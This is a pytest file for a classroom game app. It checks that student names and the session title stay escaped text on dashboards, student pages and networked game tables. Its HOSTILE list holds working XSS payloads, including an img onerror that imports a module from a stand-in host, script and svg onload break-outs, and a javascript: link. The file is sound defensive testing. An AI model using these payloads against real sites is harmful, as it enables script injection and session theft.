"""A student's name is text, never markup: hostile names seated at a networked table of every
game (random moves, hints ticked, every seat's page) and on every class page (the student's
page, the teacher's dashboard with its tables panel and class auction, the bidders), with every
string every shown widget carries checked after every move."""
from __future__ import annotations

import random
from html import escape

import ipywidgets as w
import pytest

from changekit.classroom import connect
from changekit.classroom.dashboard import Dashboard
from changekit.classroom.live import StudentPage
from changekit.classroom.store import MAX_NAME_CHARS
from changekit.classroom.tables import bot_seat, open_table, student_seat
from changekit.registry import game_keys, game_spec, load_game
from changekit.core import markup
from tests.unit.widget_tree import shown_strings, widgets

#: names a student might type (the store keeps names to 40 characters)
HOSTILE = [
    "<img src onerror=import('//x.test/m')>",  # the issue's payload: a module from elsewhere
    '"><script>window.__pwned=1</script>',  # out of an attribute, then a script
    "'><svg onload=window.__pwned=1>",  # out of a single-quoted attribute
    "&lt;b&gt;Ada&lt;/b&gt; &amp; &#60;i>",  # entities: must show as typed, not decoded
    "{0} {names[0]} {!r} {{}} %s",  # braces: a name used as a format template
    "$\\href{javascript:alert(1)}{x}$",  # maths markup
    "<b title=" + "x" * 30 + ">",  # as long as a name may be (MAX_NAME_CHARS)
]
TITLE = "<img src=x onerror=window.__pwned=2>"  # the teacher's session title is typed too
#: a game's moves made at each table at most (random moves, students and bots)
MOVES = 60


def test_every_payload_would_be_markup_or_a_template_if_not_escaped():
    assert max(len(n) for n in HOSTILE) == MAX_NAME_CHARS  # the longest a name may be
    assert all(markup.escape(n) != n or "{" in n for n in HOSTILE)  # the classroom fixture joins each as typed


class Audit:
    """Every string of every widget shown, checked for each name: in markup only escaped, once;
    in text as typed (an entity there would show as ``&lt;``)."""

    def __init__(self, names: list[str]) -> None:
        self.names = names
        self.checked = 0
        self.shown: dict[str, int] = dict.fromkeys(names, 0)
        self.found: list[str] = []

    def check(self, page: str, root) -> None:
        # each name's escaped forms once, not once per string checked; the place of a finding is
        # worded only when there is one (both were most of the time of a table's audit)
        forms = [(name, escaped, escape(escaped)) for name in self.names for escaped in [markup.escape(name)]]
        for widget, trait, value, is_markup in shown_strings(root):
            self.checked += 1

            def where() -> str:
                return f"{page}: {type(widget).__name__}.{trait} = {value[:300]!r}"  # noqa: B023 - called at once

            for name, escaped, twice in forms:
                if is_markup:
                    if escaped != name and name in value:
                        self.found.append(f"{name!r} as markup in {where()}")
                    if twice in value and twice != escaped:  # html.escape: once more
                        self.found.append(f"{name!r} escaped twice in {where()}")
                    if escaped in value:
                        self.shown[name] += 1
                        if "$" in name and type(widget).__name__ == "HTMLMath":
                            self.found.append(f"{name!r} as maths in {where()}")
                else:
                    if escaped != name and escaped in value:
                        self.found.append(f"{name!r} shown escaped (as entities) in {where()}")
                    if name in value:
                        self.shown[name] += 1


def random_move(app, rng):
    """A random legal move for the page's seat, made through the page (as its buttons do): a kind
    of move first (steal, jiggle, stand...), so that rare kinds among many moves of one kind
    are played too, then one move of that kind."""
    legal = app.state.legal_actions(app.viewer)
    kinds: dict[object, list] = {}
    for action in legal:
        kinds.setdefault(action[0] if isinstance(action, tuple) and action else action, []).append(action)
    app.act(rng.choice(rng.choice(list(kinds.values()))))
    assert app.error == "", app.error


def follow(page: StudentPage) -> None:
    """One poll of a student's page: the table's new moves, and bots' moves due."""
    app = page.tables.app
    if app._step():
        app.reload()


def test_the_check_finds_a_name_written_as_markup():
    name = HOSTILE[0]
    audit = Audit([name])
    audit.check("page", w.VBox([w.HTML(f"<b>{name}</b>"), w.Label(escape(name)), w.HTML(escape(escape(name))),
                                w.HTML(markup.html("{}", markup.escape(name))), w.HTML(markup.html("ok {}", name))]))
    found = sorted(audit.found)
    assert len(found) == 3, found
    assert "as markup in page: HTML" in found[0] and "as entities) in page: Label" in found[2]
    assert "escaped twice in page: HTML" in found[1]
    assert audit.shown[name] == 2  # the two HTML widgets that escaped it once


@pytest.fixture
def classroom(tmp_path, monkeypatch):
    monkeypatch.delenv("QUERY_STRING", raising=False)
    with connect(f"sqlite:///{tmp_path}/class.db") as store:
        board = Dashboard(store, lesson="zombie.ipynb", live=False)
        board.title_box.value = TITLE
        board.open_button.click()
        assert board.session is not None, board.message.value
        pages = {}
        for name in ["Ada", *HOSTILE]:
            pages[name] = StudentPage(store, live=False)
            pages[name].join(board.session.code, name)
            assert pages[name].link is not None and pages[name].link.name == name
        yield store, board, pages


def test_hostile_names_stay_text_on_every_class_page(classroom):
    store, board, pages = classroom
    audit = Audit([*HOSTILE, TITLE])
    session = board.session
    board.poller.tick()  # who has joined
    auction, tables, _lab = board.games_box.children
    # a lesson question: opened, answered by all, revealed
    row = board.rows["zombie.q1"]
    row.open_button.click()
    for i, page in enumerate(pages.values()):
        page.link.refresh()
        page.link.questions["zombie.q1"].predict(["$1", "$3", "$5"][i % 3])
    board.poller.tick()
    row.reveal_button.click()
    for page in pages.values():
        page.link.refresh()
        page.link.questions["zombie.q1"].check_button.click()
    audit.check("dashboard after a question", board.widget)
    for name, page in pages.items():
        audit.check(f"{name!r}'s page after a question", page.widget)
    # the class auction: every student bids, the teacher settles
    panel = _panel(board, "AuctionPanel")
    panel.w_start.click()
    rng = random.Random(5)
    for page in pages.values():
        page.link.refresh()
        (bidder,) = page._bidders.values()
        for toggle in bidder.w_bills:
            toggle.value = rng.random() < 0.4
        bidder.w_bills[-1].value = True
        bidder.submit()
    panel.w_close.click()
    for page in pages.values():
        page.link.refresh()
    audit.check("dashboard after the auction", board.widget)
    for name, page in pages.items():
        audit.check(f"{name!r}'s page after the auction", page.widget)
    # a student starts a table from their page (their classmates in the seat pickers)
    starter = pages[HOSTILE[0]]
    form = starter.tables.form
    form.w_game.value = "zombie"
    form.w_count.value = 3
    form.w_seats.children[1].value = HOSTILE[1]
    assert form.open() is not None, form.w_message.value
    tables_panel = _panel(board, "TablesPanel")
    tables_panel.refresh()
    for page in pages.values():
        page.tables.refresh()
    audit.check("dashboard with a student's table", board.widget)
    for name, page in pages.items():
        audit.check(f"{name!r}'s page with a student's table", page.widget)
    assert audit.found == []
    assert all(audit.shown[n] > 0 for n in audit.names), audit.shown
    assert session is not None and auction is not None and tables is not None
    print(f"class pages: {audit.checked} strings checked for {len(audit.names)} hostile names, "
          f"{len(audit.found)} found as markup")


def _panel(board: Dashboard, kind: str):
    """The dashboard's auction or tables panel object (the games box holds only their widgets):
    the object whose bound method its first button calls."""
    label = {"AuctionPanel": "Start a class auction", "TablesPanel": "Refresh"}[kind]
    (btn,) = [b for b in widgets(board.games_box) if isinstance(b, w.Button) and b.description == label]
    (handler,) = btn._click_handlers.callbacks
    (cell,) = handler.__closure__  # ui.app.button: lambda _: on_click()
    panel = cell.cell_contents.__self__
    assert type(panel).__name__ == kind
    return panel


@pytest.mark.parametrize("game", game_keys())
def test_hostile_names_stay_text_at_a_networked_table_of_every_game(classroom, game):
    store, board, pages = classroom
    session = board.session
    cls = load_game(game)
    audit = Audit(HOSTILE)
    rng = random.Random(f"hostile:{game}")
    tables_panel = _panel(board, "TablesPanel")
    tables = 0
    # seat every hostile name (with Ada, the classmate whose page shows their names): as many
    # tables as the game's seats need
    per_table = cls.max_players - 1
    options = dict(game_spec(game).short_options)
    for start in range(0, len(HOSTILE), per_table):
        names = ["Ada", *HOSTILE[start:start + per_table]]
        seats = [student_seat(n) for n in names] + [bot_seat() for _ in range(cls.min_players - len(names))]
        seated = [pages[n] for n in names]
        moves = 0
        while moves < MOVES:  # games to their end, new tables until the students made MOVES moves
            table = open_table(store, session.code, session.teacher_key, game, seats, seed=rng.randrange(1000),
                               options=options)
            for page in seated:
                assert page.tables.refresh() and page.tables.app.client.table_id == table.table_id
                page.tables.app.w_hints.value = True
            rounds = 0
            while moves < MOVES and not seated[0].tables.app.client.state.is_terminal():
                rounds += 1
                assert rounds < 10 * MOVES, "nobody at the table can move"
                for page, name in zip(seated, names, strict=True):
                    follow(page)  # the page as its student sees it when their turn comes (hints and all)
                    audit.check(f"{game} table {table.table_id}, {name!r}'s page", page.widget)
                    app = page.tables.app
                    if not app.state.is_terminal() and app.viewer in app.state.current_players():
                        random_move(app, rng)
                        moves += 1
                        audit.check(f"{game} table {table.table_id}, {name!r}'s page after a move", page.widget)
            for page, name in zip(seated, names, strict=True):
                follow(page)
                audit.check(f"{game} table {table.table_id}, {name!r}'s page at the end", page.widget)
            tables_panel.refresh()
            audit.check(f"{game}: the teacher's tables panel", board.widget)
            store.close_table(session.code, session.teacher_key, table.table_id)
            tables += 1
    assert audit.found == [], "\n".join(audit.found[:10])
    assert all(audit.shown[n] > 0 for n in HOSTILE), audit.shown
    print(f"{game}: {tables} tables, {audit.checked} strings checked for {len(HOSTILE)} hostile names, "
          f"{len(audit.found)} found as markup")


def test_the_issue_s_moneybags_hint_shows_a_classmate_s_name_as_text(classroom):
    """Issue 23's case: the victim ticks Show hints at a networked Moneybags table and jiggles
    the bags of the hostile-named classmates: the hint names them, as text."""
    from changekit.games.moneybags.rules import STAND, jiggle_bag

    store, board, pages = classroom
    session = board.session
    names = ["Ada", HOSTILE[0], HOSTILE[1]]
    open_table(store, session.code, session.teacher_key, "moneybags", [student_seat(n) for n in names], seed=4)
    seated = [pages[n] for n in names]
    for page in seated:
        assert page.tables.refresh()
    ada = seated[0].tables.app
    ada.w_hints.value = True
    rng = random.Random(4)
    for _ in range(200):  # the others pour and stand until it is Ada's turn to steal or stand
        for page in seated:
            follow(page)
        if ada.state.phase == "turn" and ada.viewer in ada.state.current_players():
            break
        for page in seated[1:] + seated[:1]:
            app = page.tables.app
            if app.viewer in app.state.current_players():
                legal = app.state.legal_actions(app.viewer)
                app.act(STAND if STAND in legal else rng.choice(legal))
    assert ada.state.phase == "turn" and ada.viewer in ada.state.current_players()
    for seat in range(3):
        ada.act(jiggle_bag(seat))
    hint = ada.w_hint_box.value
    assert "Rule of thumb" in hint and (markup.escape(HOSTILE[0]) in hint or markup.escape(HOSTILE[1]) in hint), hint
    audit = Audit(HOSTILE)
    audit.check("Ada's Moneybags page with hints", seated[0].widget)
    assert audit.found == [] and audit.shown[HOSTILE[0]] > 0
